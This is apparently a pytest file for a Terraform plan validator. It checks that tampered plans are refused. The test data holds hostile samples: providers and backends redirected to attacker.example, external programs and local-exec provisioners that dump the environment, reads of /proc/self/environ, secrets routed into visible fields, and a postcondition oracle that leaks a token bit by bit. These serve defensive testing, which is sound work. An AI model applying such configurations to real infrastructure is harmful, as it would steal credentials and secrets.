"""Each way that is known into credentials, or out with a secret, is refused with its place."""

from __future__ import annotations

from copy import deepcopy
from typing import Any

import pytest

from tests.operations.plans.tampering import CONTENTS, Place, at, problems

WITH_EVERYTHING = "rails-shop-production"
TOKEN = "${var.cloudflare_api_token_agency_example}"
ACCESS = "data.digitalocean_kubernetes_cluster.access.kube_config[0]"
KUBERNETES = {
    "host": f"${{{ACCESS}.host}}",
    "token": f"${{{ACCESS}.token}}",
    "cluster_ca_certificate": f"${{base64decode({ACCESS}.cluster_ca_certificate)}}",
}
NOT_SYNTH = "is nothing that synth writes"
NOT_SO = "is not configured as synth does it"
BACKEND = ("terraform", "backend", "s3")
SEPARATE = "is not the one that the base's fleet has"
PRIVATE_KEY = f"{WITH_EVERYTHING}_origin"


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        (("module",), {"x": {"source": "attacker.example/x"}}, f"module {NOT_SYNTH}"),
        (("output",), {"x": {"value": TOKEN, "sensitive": True}}, f"output {NOT_SYNTH}"),
        (("locals",), {"x": "y"}, f"locals {NOT_SYNTH}"),
        (("check",), {"x": {"data": {"http": {}}}}, f"check {NOT_SYNTH}"),
        (("ephemeral",), {"random_password": {}}, f"ephemeral {NOT_SYNTH}"),
        (("//",), {"metadata": {"backend": "s3", "stackName": "fleet"}}, "// is not the note"),
        (("terraform", "cloud"), {"organization": "x"}, f"terraform.cloud {NOT_SYNTH}"),
        (("terraform", "experiments"), ["x"], f"terraform.experiments {NOT_SYNTH}"),
        (("terraform", "provider_meta"), {"x": {}}, f"terraform.provider_meta {NOT_SYNTH}"),
        (("terraform", "required_version"), ">= 0.1", f"terraform.required_version {SEPARATE}"),
        (("terraform", "backend"), {"local": {}}, f"terraform.backend {SEPARATE}"),
        ((*BACKEND, "bucket"), "attackers", f"terraform.backend {SEPARATE}"),
        ((*BACKEND, "key"), "fleet/terraform.tfstate", f"terraform.backend {SEPARATE}"),
        ((*BACKEND, "endpoints"), {"s3": "https://x.example"}, f"terraform.backend {SEPARATE}"),
        ((*BACKEND, "use_lockfile"), False, f"terraform.backend {SEPARATE}"),
        ((*BACKEND, "skip_s3_checksum"), 1, f"terraform.backend {SEPARATE}"),
        (
            ("terraform", "required_providers", "http"),
            {"source": "hashicorp/http", "version": "3.5.0"},
            f"terraform.required_providers.http {NOT_SYNTH}",
        ),
        (
            ("terraform", "required_providers", "random"),
            {"source": "attacker/random", "version": "3.9.0"},
            "terraform.required_providers.random is not hashicorp/random 3.9.0, which is pinned",
        ),
        (
            ("terraform", "required_providers", "random", "version"),
            ">= 3.9.0",
            "terraform.required_providers.random is not hashicorp/random 3.9.0, which is pinned",
        ),
        (
            ("terraform", "required_providers", "random", "configuration_aliases"),
            ["random.x"],
            "terraform.required_providers.random is not hashicorp/random 3.9.0, which is pinned",
        ),
        (("provider", "http"), [{}], f"provider.http {NOT_SYNTH}"),
        (("provider", "random"), {}, "provider.random is not a list of configurations"),
        (
            ("provider", "digitalocean"),
            [{"api_endpoint": "https://attacker.example"}],
            f"provider.digitalocean[0] {NOT_SO}",
        ),
        (
            ("provider", "digitalocean"),
            [{"spaces_endpoint": "https://attacker.example"}],
            f"provider.digitalocean[0] {NOT_SO}",
        ),
        (
            ("provider", "digitalocean"),
            [{}, {"alias": "x", "token": TOKEN}],
            f"provider.digitalocean[1] {NOT_SO}",
        ),
        (
            ("provider", "cloudflare"),
            [{"api_token": TOKEN, "base_url": "https://attacker.example"}],
            f"provider.cloudflare[0] {NOT_SO}",
        ),
        (
            ("provider", "github"),
            [{"owner": "agency-example", "base_url": "https://attacker.example/"}],
            f"provider.github[0] {NOT_SO}",
        ),
        (("provider", "github"), [{"owner": "attacker"}], f"provider.github[0] {NOT_SO}"),
        (
            ("provider", "kubernetes"),
            [{**KUBERNETES, "host": "https://attacker.example"}],
            f"provider.kubernetes[0] {NOT_SO}",
        ),
        (
            ("provider", "kubernetes"),
            [{**KUBERNETES, "host": "${cloudflare_dns_record.x.content}"}],
            f"provider.kubernetes[0] {NOT_SO}",
        ),
        (
            ("provider", "kubernetes"),
            [{**KUBERNETES, "exec": [{"api_version": "v1", "command": "env"}]}],
            f"provider.kubernetes[0] {NOT_SO}",
        ),
        (
            ("provider", "kubernetes"),
            [{**KUBERNETES, "insecure": True}],
            f"provider.kubernetes[0] {NOT_SO}",
        ),
        (
            ("provider", "kubernetes"),
            [{name: KUBERNETES[name] for name in ("host", "token")}],
            f"provider.kubernetes[0] {NOT_SO}",
        ),
        (
            ("provider", "postgresql"),
            [{"host": "attacker.example", "username": "doadmin"}],
            f"provider.postgresql[0] {NOT_SO}",
        ),
        (("provider", "tls"), [{"proxy": {"url": "http://x"}}], f"provider.tls[0] {NOT_SO}"),
        (
            ("variable", "x"),
            {"type": "string", "sensitive": True, "ephemeral": True, "description": ""},
            f"variable.x {NOT_SYNTH}",
        ),
        (
            ("variable", "cloudflare_api_token_brightbooks_example", "sensitive"),
            False,
            "variable.cloudflare_api_token_brightbooks_example is not a sensitive, ephemeral text"
            " without a default",
        ),
        (
            ("variable", "cloudflare_api_token_brightbooks_example", "default"),
            "x",
            "variable.cloudflare_api_token_brightbooks_example is not a sensitive, ephemeral text"
            " without a default",
        ),
        (
            ("data", "http"),
            {"x": {"url": "https://attacker.example"}},
            f"data.http {NOT_SYNTH}",
        ),
        (("data", "external"), {"x": {"program": ["env"]}}, f"data.external {NOT_SYNTH}"),
        (
            ("data", "terraform_remote_state"),
            {"x": {"backend": "s3"}},
            f"data.terraform_remote_state {NOT_SYNTH}",
        ),
        (
            ("import",),
            [{"to": "kubernetes_manifest.x", "id": "apiVersion=v1,kind=Secret,name=x"}],
            "import[0].to is a whole object, which no stack takes over",
        ),
        (
            ("resource", "kubernetes_manifest"),
            {"x": {"manifest": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "x"}}}},
            "resource.kubernetes_manifest.x.manifest is none of the objects that synth writes",
        ),
        (("data", "kubernetes_secret_v1"), {"x": {}}, f"data.kubernetes_secret_v1 {NOT_SYNTH}"),
        (("data", "digitalocean_tag"), {"x": {}}, f"data.digitalocean_tag {NOT_SYNTH}"),
        (("resource", "terraform_data"), {"x": {}}, f"resource.terraform_data {NOT_SYNTH}"),
        (("resource", "null_resource"), {"x": {}}, f"resource.null_resource {NOT_SYNTH}"),
        (("resource", "local_file"), {"x": {}}, f"resource.local_file {NOT_SYNTH}"),
        (("resource", "digitalocean_droplet"), {}, f"resource.digitalocean_droplet {NOT_SYNTH}"),
        (("resource",), [], "resource is not an object"),
        (
            ("resource", "digitalocean_tag"),
            {"x": [{"name": "x"}]},
            "resource.digitalocean_tag.x is not an object",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"a.b": {"name": "x"}},
            "resource.digitalocean_tag.a.b has a name that is none for Terraform",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "x", "provider": "github"}},
            "resource.digitalocean_tag.x.provider is not the provider of this type",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "x", "depends_on": ['${file("x")}']}},
            "resource.digitalocean_tag.x.depends_on is not a list of addresses",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "x", "total_resource_count": 1}},
            f"resource.digitalocean_tag.x.total_resource_count {NOT_SYNTH}",
        ),
        (
            ("resource", "cloudflare_workers_script"),
            {"x": {"content_file": "/proc/self/environ"}},
            f"resource.cloudflare_workers_script.x.content_file {NOT_SYNTH}",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": f"${{tls_private_key.{PRIVATE_KEY}.private_key_pem}}"}},
            "resource.digitalocean_tag.x.name may be shown, and refers to a secret:"
            f" tls_private_key.{PRIVATE_KEY}.private_key_pem",
        ),
        (
            ("resource", "cloudflare_workers_script"),
            {"x": {"bindings": [{"name": f"${{tls_private_key.{PRIVATE_KEY}.private_key_pem}}"}]}},
            "resource.cloudflare_workers_script.x.bindings[0].name may be shown, and refers to a"
            f" secret: tls_private_key.{PRIVATE_KEY}.private_key_pem",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": f"${{urlencode({ACCESS}.token)}}"}},
            "resource.digitalocean_tag.x.name may be shown, and refers to a secret:"
            " data.digitalocean_kubernetes_cluster.access.kube_config.token",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "${tolist(kubernetes_secret_v1.x.data)[0]}"}},
            "resource.digitalocean_tag.x.name may be shown, and refers to a secret:"
            " kubernetes_secret_v1.x.data",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": TOKEN}},
            "resource.digitalocean_tag.x.name has an expression that synth does not write:"
            " '${var.cloudflare_api_token_agency_example}'",
        ),
        (
            ("resource", "github_actions_environment_secret"),
            {"x": {"encrypted_value": f"${{{ACCESS}.token}}"}},
            "resource.github_actions_environment_secret.x.encrypted_value may be shown, and refers"
            " to a secret: data.digitalocean_kubernetes_cluster.access.kube_config.token",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "${digitalocean_droplet.x.ipv4_address}"}},
            "resource.digitalocean_tag.x.name refers to something that synth does not write:"
            " digitalocean_droplet.x.ipv4_address",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": '${file("/proc/self/environ")} and more of it, up to sixty'}},
            "resource.digitalocean_tag.x.name has an expression that synth does not write:"
            " '${file(\"/proc/self/environ\")} and more of it, up to sixty'",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "x", "lifecycle": {"precondition": []}}},
            f"resource.digitalocean_tag.x.lifecycle.precondition {NOT_SYNTH}",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "x", "lifecycle": {"prevent_destroy": "${var.x}"}}},
            "resource.digitalocean_tag.x.lifecycle.prevent_destroy is neither true nor false",
        ),
        (
            ("resource", "digitalocean_tag"),
            {"x": {"name": "x", "lifecycle": {"ignore_changes": "all"}}},
            "resource.digitalocean_tag.x.lifecycle.ignore_changes is not a list of attributes",
        ),
        (
            ("import",),
            [{"to": "digitalocean_tag.x", "id": "${var.x}"}],
            "import[0].id is a text that Terraform would evaluate",
        ),
        (
            ("import",),
            [{"to": "digitalocean_tag.x", "id": "x", "for_each": ["a"]}],
            f"import[0].for_each {NOT_SYNTH}",
        ),
        (
            ("moved",),
            [{"from": "module.x", "to": "digitalocean_tag.x"}],
            "moved[0].from is not the address of a resource that synth writes",
        ),
        (
            ("removed",),
            [{"from": "digitalocean_tag.x", "lifecycle": {"destroy": True}}],
            "removed[0].lifecycle does not say that the thing itself stays",
        ),
        (
            ("removed",),
            [
                {
                    "from": "digitalocean_tag.x",
                    "lifecycle": {"destroy": False},
                    "provisioner": {"local-exec": {"command": "env", "when": "destroy"}},
                }
            ],
            f"removed[0].provisioner {NOT_SYNTH}",
        ),
    ],
)
def test_a_change_that_is_no_change_of_a_definition_is_refused(
    path: Place, value: Any, said: str
) -> None:
    tampered = deepcopy(CONTENTS[WITH_EVERYTHING])
    at(tampered, path[:-1])[path[-1]] = value

    found = problems(WITH_EVERYTHING, tampered)

    assert [each for each in found if each.startswith(said)], found


@pytest.mark.parametrize(
    ("condition", "message"),
    [
        ('${startswith(self.kube_config[0].token, "a")}', "x"),
        ('${self.kube_config != null && self.kube_config != ""}', "x"),
        ('${self.id != null && self.name != ""}', "x"),
        ('${self.id != null && self.id != ""}', f"${{{ACCESS}.token}}"),
        (True, "x"),
    ],
)
def test_a_promise_asks_only_whether_a_thing_was_found(condition: Any, message: str) -> None:
    """Whether a plan ends well would tell a token, one bit after the other."""
    tampered = deepcopy(CONTENTS[WITH_EVERYTHING])
    access = tampered["data"]["digitalocean_kubernetes_cluster"]["access"]
    access["lifecycle"]["postcondition"] = [{"condition": condition, "error_message": message}]

    [said] = problems(WITH_EVERYTHING, tampered)

    assert said.startswith(
        "data.digitalocean_kubernetes_cluster.access.lifecycle.postcondition[0]."
    )
